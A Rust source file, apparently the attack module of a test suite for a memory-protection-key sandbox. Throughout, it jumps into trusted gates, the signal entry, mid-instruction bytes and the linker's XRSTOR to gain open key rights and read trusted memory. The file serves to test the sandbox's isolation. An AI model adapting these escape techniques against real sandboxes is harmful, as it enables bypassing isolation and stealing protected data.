//! Jumps into trusted code: instruction fetch knows no keys, so every instruction of the process can be reached.
//!
//! `what` is a gate (`stub`, `exit`, `signal-entry`), `sweep`, `middle` (of an instruction of one's own), `resolver` (the dynamic
//! linker's XRSTOR), or a place, which is called as a function. A sweep goes to another byte of its gate in each attempt: `how` is `stub`, `victims-stub`, `exit`, `tail` or
//! `signal-entry`, and `registers` if they all hold trusted addresses, otherwise those that WRPKRU looks at are zero; `skip-N`
//! leaves a byte out.
//! With gates, `how` is a list of choices, separated by commas:
//!
//! | gate | choices |
//! | --- | --- |
//! | any | where: `wrpkru` (at that very instruction), `compare` (behind it), otherwise its first instruction |
//! | any | rights, for who jumps to WRPKRU: `open` (all keys), `closed` (none but key 0), otherwise the gate's own |
//! | `stub` | `other-carrier`, `victims-key`, `poison` (leave a stack for the next attempt, which then enters at the start) |
//! | `exit` | `other-carrier`, `tail` (where the gates meet), `print` (have the victim's words printed, in its name) |
//! | `signal-entry` | the stack: `signal-stack`, `low` on it, `top` of it (the frame reaches beyond it), `others-stack`, otherwise the thread's own; `unaligned` |
//! | `signal-entry` | the arguments: `kernels` (where the kernel would put them); the signal: `nudge`, otherwise a fault |
//! | any | when: `busy` (while the victim counts), `turns` (when it has had time for some hostcalls), otherwise at once |

use crate::leap::{Registers, leap};
use crate::memory::{dear, touch};
use crate::own::{FIRST_KEY, carrier, own_key};
use crate::victim::{Dear, OVER};
use crate::{Attack, Booty, number};
use core::arch::{asm, naked_asm};
use monohull_abi::layout::{ARENA_BASE, CARRIER_BASE, CARRIER_SIZE, CELL_SIZE, FRAMES_BASE, KEY_COUNT, PAGE};
use monohull_std::error::Error;
use monohull_std::prelude::*;
use monohull_trampoline::user::hostcall;

/// Bytes from one entry stub to the next, and from one exit gate to the next.
const STUB: u64 = 128;
const GATE: u64 = 256;
/// Bytes of WRPKRU.
const WRPKRU: u64 = 3;
/// Rights with which nothing can be used but key 0; the kernel begins handlers so.
const CLOSED: u64 = 0x5555_5554;
const SIGSEGV: u64 = 11;
/// What makes a carrier look up.
const NUDGE: u64 = 12;
/// Where the kernel puts a handler's third and second argument, from its stack pointer.
const CONTEXT: u64 = 8;
const INFORMATION: u64 = CONTEXT + 304;

/// Clocks of `clock_gettime`.
const CLOCK_PROCESS_CPUTIME_ID: u64 = 2;
const CLOCK_MONOTONIC_COARSE: u64 = 6;

/// Words that the victim has in its image too, and never says.
static WORDS: &[u8] = b"said in the victim's name";
/// Hostcalls that are made for the victim to make as many.
const TURNS: u32 = 16;

pub(crate) fn strike(attack: &Attack) -> Booty {
    if attack.chose("busy") {
        while_it_counts(dear(Dear::Turns)? as *const u64);
    }
    if attack.chose("turns") {
        for _ in 0..TURNS {
            hostcall(monohull_abi::number::THREAD_YIELD, [0; 6]);
        }
    }
    match attack.what.as_str() {
        "stub" => stub(attack),
        "exit" => exit(attack),
        "signal-entry" => signal_entry(attack),
        "sweep" => sweep(attack),
        "middle" => middle(),
        "resolver" => resolver(attack),
        place => call(attack, attack.places.find(place)?),
    }
}

impl Attack {
    fn chose(&self, choice: &str) -> bool {
        self.how.split(',').any(|chosen| chosen == choice)
    }

    /// Where in a gate to jump, and what for rights to ask for there.
    fn entrance(&self, gate: &str, start: u64, rights: u64) -> Result<(u64, u64), Box<dyn Error>> {
        let wrpkru = self.places.find(&format!("wrpkru-in-{gate}"))?;
        let at = match () {
            () if self.chose("wrpkru") => start + wrpkru,
            () if self.chose("compare") => start + wrpkru + WRPKRU,
            () => start,
        };
        let rights = match () {
            () if self.chose("open") => 0,
            () if self.chose("closed") => CLOSED,
            () => rights,
        };
        Ok((at, rights))
    }
}

/// Comes back when the victim is seen counting, or has finished.
fn while_it_counts(turns: *const u64) {
    // SAFETY: none; it is an attack. Functions that share a key can read each other's memory.
    let look = || unsafe { turns.read_volatile() };
    let before = look();
    while before != OVER && look() == before {
        core::hint::spin_loop();
    }
}

/// Another carrier than this thread's.
fn other_carrier() -> u64 {
    carrier() ^ 1
}

/// An entry stub: it sets the rights of its key, and takes the stack from the frame of carrier and key.
fn stub(attack: &Attack) -> Booty {
    // Asking may take a hostcall, from which one comes back on another carrier.
    let key = if attack.chose("victims-key") { dear(Dear::Key)? } else { own_key().into() };
    let carrier = if attack.chose("other-carrier") { other_carrier() } else { carrier() };
    let start = attack.places.find("entry")? + (carrier * (KEY_COUNT as u64 - FIRST_KEY) + key - FIRST_KEY) * STUB;
    let own_rights = !(0b11 << (2 * key)) & !0b100 & 0xffff_ffff;
    let (mut at, rights) = attack.entrance("entry", start, own_rights)?;
    let mut registers = Registers { rax: rights, ..Registers::default() };
    if attack.chose("poison") {
        // WRPKRU looks at the lower half of rcx only.
        registers.rcx = ARENA_BASE;
        if attack.attempt > 1 {
            at = start;
        }
    }
    // The frame of one's own key is one's own to fill.
    let own_frame = !attack.chose("victims-key") && !attack.chose("other-carrier");
    let frame = if own_frame { FRAMES_BASE + (carrier * KEY_COUNT as u64 + key) * PAGE } else { 0 };
    // SAFETY: none; it is an attack.
    unsafe { leap(at, &registers, frame as *mut u64) };
    touch(attack.places.find("visor-data")?, "read")
}

/// An exit gate: it opens all keys and takes its carrier's trusted stack.
fn exit(attack: &Attack) -> Booty {
    let carrier = if attack.chose("other-carrier") { other_carrier() } else { carrier() };
    let start = attack.places.find("exit")? + carrier * GATE;
    let (mut at, rights) = attack.entrance("exit", start, 0)?;
    let mut registers = Registers { rax: rights, ..Registers::default() };
    if attack.chose("tail") {
        at = attack.places.find("exit-tail")?;
        registers.r11 = CARRIER_BASE + carrier * CARRIER_SIZE + CARRIER_SIZE - PAGE;
    }
    if attack.chose("print") {
        // The words lie in its cell where they lie in one's own.
        let words = WORDS.as_ptr() as u64 % CELL_SIZE + dear(Dear::Code)? / CELL_SIZE * CELL_SIZE;
        registers.rax = monohull_abi::number::STDIO_WRITE.into();
        (registers.rdi, registers.rsi, registers.rdx) = (1, words, WORDS.len() as u64);
    }
    // SAFETY: none; it is an attack.
    number(unsafe { leap(at, &registers, core::ptr::null_mut()) })
}

/// Where the kernel enters signal handlers: it opens all keys and goes on with what the registers say.
fn signal_entry(attack: &Attack) -> Booty {
    let start = attack.places.find("signal-entry")?;
    let (at, rights) = attack.entrance("signal-entry", start, 0)?;
    let block = |carrier: u64| CARRIER_BASE + carrier * CARRIER_SIZE;
    // As after a call: compiled code counts on it.
    let below = if attack.chose("unaligned") { 7 } else { 8 };
    let rsp = match () {
        () if attack.chose("signal-stack") => block(carrier()) + 0xe000 - below,
        () if attack.chose("low") => block(carrier()) + PAGE + 0x100 - below,
        // The handler's word for the interrupted instruction would lie in the carrier's context.
        () if attack.chose("top") => block(carrier()) + CARRIER_SIZE - PAGE - 0xb0 - below,
        () if attack.chose("others-stack") => block(other_carrier()) + 0xe000 - below,
        () => 0,
    };
    // A signal's address stands 16 bytes into what the second argument points to: that word would be in the report.
    let information = attack.places.find("visor-data")? - 16;
    let mut registers =
        Registers { rax: rights, rdi: SIGSEGV, rsi: information, rdx: information, rsp, ..Default::default() };
    if attack.chose("kernels") {
        (registers.rdx, registers.rsi) = (rsp + CONTEXT, rsp + INFORMATION);
    }
    if attack.chose("nudge") {
        registers.rdi = NUDGE;
    }
    if attack.chose("wrpkru") {
        // WRPKRU wants zeros there; the third argument is kept elsewhere meanwhile.
        (registers.rdx, registers.r8) = (0, registers.rdx);
    }
    // SAFETY: none; it is an attack.
    number(unsafe { leap(at, &registers, core::ptr::null_mut()) })
}

/// Any byte of a gate, whatever instruction begins there. Who comes back with more rights than one's own can read what is trusted.
fn sweep(attack: &Attack) -> Booty {
    let byte = u64::from(attack.attempt) - 1;
    if attack.chose(&format!("skip-{byte}")) {
        return Err("this byte is left out".into());
    }
    let stub = |key: u64| {
        let entry = attack.places.find("entry")?;
        Ok::<u64, Box<dyn Error>>(entry + (carrier() * (KEY_COUNT as u64 - FIRST_KEY) + key - FIRST_KEY) * STUB)
    };
    let gate = match () {
        () if attack.chose("stub") => stub(own_key().into())?,
        () if attack.chose("victims-stub") => stub(dear(Dear::Key)?)?,
        () if attack.chose("exit") => attack.places.find("exit")? + carrier() * GATE,
        () if attack.chose("tail") => attack.places.find("exit-tail")?,
        () => attack.places.find("signal-entry")?,
    };
    let trusted = attack.places.find("visor-data")?;
    let mut registers = Registers {
        rax: trusted,
        rcx: trusted,
        rdx: trusted,
        rdi: trusted,
        rsi: trusted,
        r8: trusted,
        r9: trusted,
        r10: trusted,
        r11: trusted,
        saved: trusted,
        rsp: 0,
    };
    if !attack.chose("registers") {
        (registers.rax, registers.rcx, registers.rdx) = (0, 0, 0);
    }
    // SAFETY: none; it is an attack.
    unsafe { leap(gate + byte, &registers, core::ptr::null_mut()) };
    touch(trusted, "read")
}

/// The bytes of a system call in the middle of another instruction.
fn middle() -> Booty {
    let process: u64;
    // SAFETY: none; it is an attack.
    unsafe {
        asm!(
            "lea rcx, [rip + 2f + 1]",
            "jmp rcx",
            "2:",
            "mov ecx, 0x9090050f",
            inlateout("rax") crate::doors::GETPID => process,
            out("rcx") _,
            out("r11") _,
            options(nostack),
        );
    }
    number(process)
}

/// What XRSTOR reads behind 64 bytes of other registers: all zeros, with which it puts what it is asked for in its first state.
#[repr(C, align(64))]
struct Saved([u8; 2048]);

static SAVED: Saved = Saved([0; 2048]);

/// The resolver of lazy binding restores registers from its stack, the rights of keys among them if it is asked for those, and goes
/// on at an address that is in a register.
fn resolver(attack: &Attack) -> Booty {
    // SAFETY: none; it is an attack.
    unsafe { restore(attack.places.find("ld-xrstor")?, &SAVED) };
    touch(attack.places.find("visor-data")?, "read")
}

/// Jumps to that XRSTOR with `saved` as its stack.
///
/// # Safety
/// None; it is an attack.
#[unsafe(naked)]
unsafe extern "C" fn restore(xrstor: u64, saved: &Saved) {
    naked_asm!(
        "push rbx",
        "push r12",
        "mov r12, rsp",
        // It takes its stack back from rbx.
        "lea rbx, [rsp - 128]",
        "lea r11, [rip + 2f]",
        "mov rsp, rsi",
        // The rights of keys, and nothing else.
        "mov eax, 1 << 9",
        "xor edx, edx",
        "jmp rdi",
        "2:",
        "mov rsp, r12",
        "pop r12",
        "pop rbx",
        "ret",
    )
}

/// A function of the trusted side: copies, switches or serves for any caller, one should think.
fn call(attack: &Attack, address: u64) -> Booty {
    let secret = attack.places.find("visor-data")?;
    let room = Box::leak(Box::new([0u64; 512]));
    let registers = match attack.how.as_str() {
        // As a copy: to, from, length.
        "copy" => Registers { rdi: room.as_mut_ptr() as u64, rsi: secret, rdx: 8, ..Registers::default() },
        // As a handler: its state, and the call it serves.
        "serve" => Registers { rdi: secret, rsi: room.as_ptr() as u64, ..Registers::default() },
        // As WRPKRU: all keys open.
        "open" => Registers::default(),
        // As what asks for the time: which clock, and where to write it. What this one says needs no counter, which not
        // every machine lets a process read.
        "clock" => Registers { rdi: CLOCK_MONOTONIC_COARSE, rsi: room.as_mut_ptr() as u64, ..Registers::default() },
        // A clock that only the kernel can read.
        "kernels-clock" => {
            Registers { rdi: CLOCK_PROCESS_CPUTIME_ID, rsi: room.as_mut_ptr() as u64, ..Registers::default() }
        }
        // With addresses of trusted memory everywhere.
        _ => Registers {
            rdi: secret,
            rsi: secret,
            rdx: secret,
            rcx: secret,
            r8: secret,
            r9: secret,
            saved: secret,
            ..Registers::default()
        },
    };
    // SAFETY: none; it is an attack.
    let value = unsafe { leap(address, &registers, core::ptr::null_mut()) };
    if attack.chose("open") {
        return touch(secret, "read");
    }
    Ok(format!("{value:#x}, {:#x}", room[0]))
}
